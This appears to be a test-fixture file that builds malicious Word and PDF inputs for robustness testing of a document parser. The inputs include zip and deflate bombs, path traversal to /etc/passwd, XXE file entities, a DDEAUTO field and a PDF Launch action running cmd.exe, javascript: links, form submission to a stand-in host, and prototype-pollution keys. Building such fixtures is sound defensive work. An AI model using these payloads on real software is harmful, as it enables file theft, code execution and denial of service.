import { deflateRawSync } from "node:zlib";
import { strToU8, zipSync } from "fflate";
import { writeZip } from "../../src/formats/word/format/write-zip.ts";
import { makeDocx } from "../support/make-docx.ts";

/** A file from elsewhere that is given to every command which reads such files. */
export type HostileDocument = { readonly name: string; readonly bytes: Uint8Array };

const p = (content: string): string => `<w:p>${content}</w:p>`;
const t = (text: string): string => `<w:r><w:t>${text}</w:t></w:r>`;
const good = [
  p(t("Fler cykelplatser")),
  p(t("Jag yrkar:")),
  p(t("att kommunen bygger.")),
  p(t("Anna Exempel (M)")),
].join("");
const docx = (name: string, parts: Partial<Parameters<typeof makeDocx>[0]>): HostileDocument => ({
  name: `DOCX: ${name}`,
  bytes: makeDocx({ body: good, ...parts }),
});
const bytes = (name: string, content: Uint8Array): HostileDocument => ({ name, bytes: content });
const deep = (open: string, close: string, count: number, inside = p(t("djupt"))): string =>
  open.repeat(count) + inside + close.repeat(count);
const sound = makeDocx({ body: good });
const image = (target: string): Parameters<typeof makeDocx>[0] => ({
  body: `${good}${p('<w:r><w:drawing><wp:inline><a:graphic><a:graphicData><a:blip r:embed="rId9"/></a:graphicData></a:graphic></wp:inline></w:drawing></w:r>')}`,
  relationships: [["rId9", "image", target]],
});

/** One deflated file whose directory says what it will of its size. */
function liar(said: number, real: number): Uint8Array {
  const name = strToU8("word/document.xml");
  const data = deflateRawSync(new Uint8Array(real));
  const local = new DataView(new ArrayBuffer(30));
  const central = new DataView(new ArrayBuffer(46));
  const end = new DataView(new ArrayBuffer(22));
  local.setUint32(0, 0x04034b50, true);
  central.setUint32(0, 0x02014b50, true);
  for (const [header, at] of [
    [local, 8],
    [central, 10],
  ] as const) {
    header.setUint16(at, 8, true);
    header.setUint32(at + 10, data.length, true);
    header.setUint32(at + 14, said, true);
    header.setUint16(at + 18, name.length, true);
  }
  const offset = 30 + name.length + data.length;
  end.setUint32(0, 0x06054b50, true);
  end.setUint16(8, 1, true);
  end.setUint16(10, 1, true);
  end.setUint32(12, 46 + name.length, true);
  end.setUint32(16, offset, true);
  return Uint8Array.from(
    [local, name, data, central, name, end].flatMap((part) => [
      ...(part instanceof DataView ? new Uint8Array(part.buffer) : part),
    ]),
  );
}

const xml = (content: string): Readonly<Record<string, string>> => ({ "word/document.xml": content });
const w = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"';
const relationship = "http://schemas.openxmlformats.org/officeDocument/2006/relationships";

const docxInputs: readonly HostileDocument[] = [
  bytes("DOCX: empty archive", zipSync({})),
  bytes("DOCX: two letters", strToU8("PK")),
  bytes("DOCX: cut off in the middle", sound.slice(0, sound.length >> 1)),
  bytes("DOCX: without its directory", sound.slice(0, sound.length - 60)),
  bytes("DOCX: says that it unpacks to 4 GB", liar(0xfffffff0, 1000)),
  bytes("DOCX: says 1,000 bytes and unpacks to 64 MB", liar(1000, 64_000_000)),
  bytes("DOCX: says 0 bytes", liar(0, 1000)),
  docx("3 MB of one letter", {
    parts: xml(`<w:document ${w}><w:body>${p(t("a".repeat(3_000_000)))}</w:body></w:document>`),
  }),
  docx("3,000 parts", {
    parts: Object.fromEntries(Array.from({ length: 3000 }, (_, index) => [`word/x${index}.xml`, ""])),
  }),
  docx("unpacks to 20 MB of XML", { parts: { "word/x.xml": new Uint8Array(20_000_000) } }),
  docx("parts named ../ and /", {
    parts: { "../../../../tmp/yrka-out.txt": "ut", "/etc/yrka": "ut", "C:\\yrka": "ut" },
  }),
  bytes(
    "DOCX: parts named __proto__ and constructor",
    writeZip(
      ["__proto__", "constructor", "word/__proto__"].map((path) => ({ path, bytes: strToU8("x"), isStored: true })),
    ),
  ),
  docx("no main part", { parts: { "_rels/.rels": "<Relationships/>" } }),
  docx("a main part that is not there", {
    parts: {
      "_rels/.rels": `<Relationships><Relationship Id="a" Type="${relationship}/officeDocument" Target="word/borta.xml"/></Relationships>`,
    },
  }),
  docx("a main part above the archive", {
    parts: {
      "_rels/.rels": `<Relationships><Relationship Id="a" Type="${relationship}/officeDocument" Target="../../../../etc/passwd"/></Relationships>`,
    },
  }),
  docx("a main part on the web", {
    parts: {
      "_rels/.rels": `<Relationships><Relationship Id="a" Type="${relationship}/officeDocument" Target="https://spy.example/x" TargetMode="External"/></Relationships>`,
    },
  }),
  docx("entities that grow", {
    parts: xml(
      `<!DOCTYPE d [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;">]><w:document ${w}><w:body>${p(t("&b;"))}</w:body></w:document>`,
    ),
  }),
  docx("an entity that is a file", {
    parts: xml(
      `<!DOCTYPE d [<!ENTITY a SYSTEM "file:///etc/passwd">]><w:document ${w}><w:body>${p(t("&a;"))}</w:body></w:document>`,
    ),
  }),
  docx("a style sheet that is a program", {
    parts: xml(`<?xml-stylesheet href="https://spy.example/x"?><w:document ${w}><w:body>${good}</w:body></w:document>`),
  }),
  docx("XML that never closes", { parts: xml(`<w:document ${w}><w:body>${good}`) }),
  docx("XML that is no UTF-8", { parts: { "word/document.xml": Uint8Array.from([0xff, 0xfe, 0x3c, 0, 0x77, 0]) } }),
  docx("elements nested 10,000 deep", { body: deep("<w:sdt><w:sdtContent>", "</w:sdtContent></w:sdt>", 5000) }),
  docx("tables nested 100 deep", { body: deep("<w:tbl><w:tr><w:tc>", "</w:tc></w:tr></w:tbl>", 100) }),
  docx("text boxes nested 50 deep", {
    body: p(
      deep(
        "<w:r><w:pict><v:shape><v:textbox><w:txbxContent><w:p>",
        "</w:p></w:txbxContent></v:textbox></v:shape></w:pict></w:r>",
        50,
        t("djupt"),
      ),
    ),
  }),
  docx("100,000 empty runs", { body: good + p("<w:r/>".repeat(100_000)) }),
  docx("20,000 paragraphs", { body: good + p(t("ord")).repeat(20_000) }),
  docx("a word of 1,000,000 letters", { body: good + p(t("a".repeat(1_000_000))) }),
  docx("100,000 spaces", { body: good + p(t(" ".repeat(100_000))) }),
  docx("a table of 2,000 columns", {
    body: `${good}<w:tbl><w:tr>${`<w:tc>${p(t("a"))}</w:tc>`.repeat(2000)}</w:tr></w:tbl>`,
  }),
  docx("a cell that spans 1,000,000,000 columns", {
    body: `${good}<w:tbl><w:tr><w:tc><w:tcPr><w:gridSpan w:val="1000000000"/></w:tcPr>${p(t("a"))}</w:tc></w:tr></w:tbl>`,
  }),
  docx("a cell that spans -1 columns", {
    body: `${good}<w:tbl><w:tr><w:tc><w:tcPr><w:gridSpan w:val="-1"/></w:tcPr>${p(t("a"))}</w:tc></w:tr></w:tbl>`,
  }),
  docx("a style that is based on itself", {
    body: `<w:p><w:pPr><w:pStyle w:val="A"/></w:pPr>${t("text")}</w:p>${good}`,
    styles: '<w:style w:type="paragraph" w:styleId="A"><w:name w:val="A"/><w:basedOn w:val="A"/></w:style>',
  }),
  docx("two styles that are based on each other", {
    body: `<w:p><w:pPr><w:pStyle w:val="A"/></w:pPr>${t("text")}</w:p>${good}`,
    styles:
      '<w:style w:type="paragraph" w:styleId="A"><w:basedOn w:val="B"/></w:style><w:style w:type="paragraph" w:styleId="B"><w:basedOn w:val="A"/></w:style>',
  }),
  docx("a list level of 99,999", {
    body: `<w:p><w:pPr><w:numPr><w:ilvl w:val="99999"/><w:numId w:val="1"/></w:numPr></w:pPr>${t("text")}</w:p>${good}`,
    numbering: '<w:num w:numId="1"><w:abstractNumId w:val="1"/></w:num>',
  }),
  docx("a list level of -1", {
    body: `<w:p><w:pPr><w:numPr><w:ilvl w:val="-1"/><w:numId w:val="1"/></w:numPr></w:pPr>${t("text")}</w:p>${good}`,
    numbering:
      '<w:abstractNum w:abstractNumId="1"><w:lvl w:ilvl="-1"><w:numFmt w:val="decimal"/><w:lvlText w:val="%-1"/></w:lvl></w:abstractNum><w:num w:numId="1"><w:abstractNumId w:val="1"/></w:num>',
  }),
  docx("a list that begins at 1e308", {
    body: `<w:p><w:pPr><w:numPr><w:ilvl w:val="0"/><w:numId w:val="1"/></w:numPr></w:pPr>${t("text")}</w:p>${good}`,
    numbering:
      '<w:abstractNum w:abstractNumId="1"><w:lvl w:ilvl="0"><w:start w:val="1e308"/><w:numFmt w:val="lowerRoman"/><w:lvlText w:val="%1."/></w:lvl></w:abstractNum><w:num w:numId="1"><w:abstractNumId w:val="1"/></w:num>',
  }),
  docx("Roman numerals of 1,000,000,000", {
    body: `<w:p><w:pPr><w:numPr><w:ilvl w:val="0"/><w:numId w:val="1"/></w:numPr></w:pPr>${t("text")}</w:p>${good}`,
    numbering:
      '<w:abstractNum w:abstractNumId="1"><w:lvl w:ilvl="0"><w:start w:val="1000000000"/><w:numFmt w:val="upperRoman"/><w:lvlText w:val="%1."/></w:lvl></w:abstractNum><w:num w:numId="1"><w:abstractNumId w:val="1"/></w:num>',
  }),
  docx("letters of 1,000,000,000", {
    body: `<w:p><w:pPr><w:numPr><w:ilvl w:val="0"/><w:numId w:val="1"/></w:numPr></w:pPr>${t("text")}</w:p>${good}`,
    numbering:
      '<w:abstractNum w:abstractNumId="1"><w:lvl w:ilvl="0"><w:start w:val="1000000000"/><w:numFmt w:val="lowerLetter"/><w:lvlText w:val="%1."/></w:lvl></w:abstractNum><w:num w:numId="1"><w:abstractNumId w:val="1"/></w:num>',
  }),
  docx("a footnote that refers to itself", {
    body: good + p('<w:r><w:footnoteReference w:id="2"/></w:r>'),
    footnotes: `<w:footnote w:id="2">${p(`${t("not")}<w:r><w:footnoteReference w:id="2"/></w:r>`)}</w:footnote>`,
  }),
  docx("a footnote that is not there", { body: good + p('<w:r><w:footnoteReference w:id="99"/></w:r>') }),
  docx("fields that never end", { body: good + p('<w:r><w:fldChar w:fldCharType="begin"/></w:r>'.repeat(5000)) }),
  docx("fields that end and never began", {
    body: good + p('<w:r><w:fldChar w:fldCharType="end"/></w:r>'.repeat(5000)),
  }),
  docx("a field that starts a program", {
    body:
      good +
      p(
        '<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"</w:instrText></w:r><w:r><w:fldChar w:fldCharType="separate"/></w:r>' +
          t("klicka") +
          '<w:r><w:fldChar w:fldCharType="end"/></w:r>',
      ),
  }),
  docx("a link to javascript:", {
    body: good + p(`<w:hyperlink r:id="rId9">${t("klicka")}</w:hyperlink>`),
    relationships: [["rId9", "hyperlink", "javascript:alert(1)"]],
  }),
  docx("a template on the web", { relationships: [["rId9", "attachedTemplate", "https://spy.example/x.dotm"]] }),
  docx("a page of HTML in it", {
    body: `${good}<w:altChunk r:id="rId9"/>`,
    relationships: [["rId9", "aFChunk", "x.html"]],
    parts: { "word/x.html": "<script>alert(1)</script>" },
  }),
  docx("macros", { parts: { "word/vbaProject.bin": "x" }, relationships: [["rId9", "vbaProject", "vbaProject.bin"]] }),
  docx("a picture on the web", image("https://spy.example/x.png")),
  docx("a picture that is a file", image("file:///etc/passwd")),
  docx("a picture above the archive", image("../../../../../etc/passwd")),
  docx("a picture that is not there", image("media/borta.png")),
  docx("a picture that is none", { ...image("media/x.png"), parts: { "word/media/x.png": "<script>" } }),
  docx("bookmarks that begin and never end", {
    body:
      good +
      Array.from({ length: 5000 }, (_, id) => `<w:bookmarkStart w:id="${id}" w:name="p-${id}"/>`).join("") +
      p(t("text")),
  }),
  docx("insertions nested 100 deep", {
    body: p(deep('<w:ins w:id="1" w:author="x">', "</w:ins>", 100, t("text"))) + good,
  }),
  docx("Markdown, HTML and YAML as its words", {
    body:
      p(t("---")) +
      p(t("titel: [")) +
      p(t("&lt;script&gt;alert(1)&lt;/script&gt;")) +
      p(t("![x](../../etc/passwd)")) +
      p(t("{{{constructor}}}")) +
      good,
  }),
  docx("terminal escapes as its words", { body: p(t("\u0085\u009b31m röd")) + good }),
  docx("terminal escapes as its title", {
    parts: {
      "docProps/core.xml":
        "<cp:coreProperties xmlns:cp='a' xmlns:dc='b'><dc:title>\u009b31m röd\u202e</dc:title></cp:coreProperties>",
      "_rels/.rels": `<Relationships><Relationship Id="a" Type="${relationship}/officeDocument" Target="word/document.xml"/><Relationship Id="b" Type="http://schemas.openxmlformats.org/package/2006/relationships/metadata/core-properties" Target="docProps/core.xml"/></Relationships>`,
    },
  }),
  bytes(
    "DOCX: an encrypted or old Word file",
    Uint8Array.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1, ...new Uint8Array(600)]),
  ),
];

const header = "%PDF-1.7\n";
const pdf = (name: string, body: string): HostileDocument =>
  bytes(`PDF: ${name}`, new Uint8Array(Buffer.from(header + body, "latin1")));
const catalogue = "1 0 obj <</Type/Catalog/Pages 2 0 R>> endobj\n";
const onePage = `${catalogue}2 0 obj <</Type/Pages/Kids[3 0 R]/Count 1>> endobj\n3 0 obj <</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]>> endobj\n`;
const trailer = "trailer <</Root 1 0 R/Size 4>>\n";
const bomb = deflateRawSync(new Uint8Array(60_000_000), { level: 9 });

const pdfInputs: readonly HostileDocument[] = [
  pdf("nothing but its header", ""),
  pdf("no pages", `${catalogue}2 0 obj <</Type/Pages/Kids[]/Count 0>> endobj\n${trailer}`),
  pdf("pages that hold themselves", `${catalogue}2 0 obj <</Type/Pages/Kids[2 0 R]/Count 1>> endobj\n${trailer}`),
  pdf(
    "2,147,483,647 pages",
    `${catalogue}2 0 obj <</Type/Pages/Kids[3 0 R]/Count 2147483647>> endobj\n3 0 obj <</Type/Page/Parent 2 0 R>> endobj\n${trailer}`,
  ),
  pdf(
    "a cross-reference that leads to itself",
    `${onePage}xref\n0 1\n0000000000 65535 f \ntrailer <</Root 1 0 R/Size 4/Prev 9>>\nstartxref\n9\n%%EOF`,
  ),
  pdf("an object that is itself", `1 0 obj 1 0 R endobj\n${trailer}`),
  pdf("arrays nested 100,000 deep", `${catalogue}2 0 obj ${"[".repeat(100_000)} endobj\n${trailer}`),
  pdf("dictionaries nested 100,000 deep", `${catalogue}2 0 obj ${"<</A".repeat(100_000)} endobj\n${trailer}`),
  pdf(
    "a stream longer than the file",
    `${onePage}4 0 obj <</Length 999999999>> stream\nx\nendstream endobj\n${trailer}`,
  ),
  pdf("a text that never ends", `${onePage}4 0 obj (${"(".repeat(100_000)}`),
  pdf(
    "a script when it is opened",
    `${onePage.replace("/Pages", "/OpenAction <</S/JavaScript/JS(app.alert(1))>>/Pages")}${trailer}`,
  ),
  pdf(
    "a program when it is opened",
    `${onePage.replace("/Pages", "/OpenAction <</S/Launch/F(cmd.exe)>>/Pages")}${trailer}`,
  ),
  pdf(
    "a page that sends a form",
    `${onePage.replace("/Pages", "/OpenAction <</S/SubmitForm/F(https://spy.example)>>/Pages")}${trailer}`,
  ),
  pdf(
    "encryption without a key",
    `${onePage}trailer <</Root 1 0 R/Size 4/Encrypt <</Filter/Standard/V 99>>/ID[(a)(b)]>>\n`,
  ),
  pdf(
    "metadata with entities that grow",
    `${onePage.replace("/Pages", "/Metadata 4 0 R/Pages")}4 0 obj <</Type/Metadata/Subtype/XML/Length 90>> stream\n<!DOCTYPE a [<!ENTITY b "cccc"><!ENTITY d "&b;&b;">]><x:xmpmeta xmlns:x="adobe:ns:meta/">&d;\nendstream endobj\n${trailer}`,
  ),
  pdf("a signature of no bytes", `${onePage}4 0 obj <</Type/Sig/ByteRange[0 0 0 0]/Contents<>>> endobj\n${trailer}`),
  pdf(
    "a signature of negative bytes",
    `${onePage}4 0 obj <</Type/Sig/ByteRange[-1 -1 99999999999 5]/Contents<00>>> endobj\n${trailer}`,
  ),
  pdf("10,000 signatures", `${onePage}${"4 0 obj <</Type/Sig/ByteRange[0 1 2 3]>> endobj\n".repeat(10_000)}${trailer}`),
  pdf(
    "data of ours that is none",
    `${onePage}<yrka:data>{"clauses": [{"__proto__": {"polluted": 1}}], "title": ["x"]}</yrka:data>\n${trailer}`,
  ),
  pdf(
    "terminal escapes as its title",
    `${onePage}4 0 obj <</Title(\u001b[31m\u009b31m)>> endobj\ntrailer <</Root 1 0 R/Info 4 0 R/Size 5>>\n`,
  ),
  bytes(
    "PDF: objects that unpack to 60 MB",
    Buffer.concat([
      Buffer.from(
        `${header}${onePage}4 0 obj <</Type/ObjStm/N 1/First 10/Filter/FlateDecode/Length ${bomb.length + 6}>> stream\n`,
      ),
      Buffer.from([0x78, 0xda]),
      bomb,
      Buffer.from([0, 0, 0, 0]),
      Buffer.from(`\nendstream endobj\n${trailer}`),
    ]),
  ),
  bytes(
    "PDF: a page that unpacks to 60 MB",
    Buffer.concat([
      Buffer.from(
        `${header}${onePage.replace("/MediaBox", "/Contents 4 0 R/MediaBox")}4 0 obj <</Filter/FlateDecode/Length ${bomb.length + 6}>> stream\n`,
      ),
      Buffer.from([0x78, 0xda]),
      bomb,
      Buffer.from([0, 0, 0, 0]),
      Buffer.from(`\nendstream endobj\n${trailer}`),
    ]),
  ),
  bytes(
    "PDF: its header behind 1,000 bytes of something else",
    Buffer.concat([Buffer.alloc(1000), Buffer.from(`${header}${onePage}${trailer}`)]),
  ),
  bytes("neither: empty", new Uint8Array()),
  bytes("neither: null bytes", new Uint8Array(100_000)),
];

/** Word files and PDFs. */
export const hostileDocuments: readonly HostileDocument[] = [...docxInputs, ...pdfInputs];
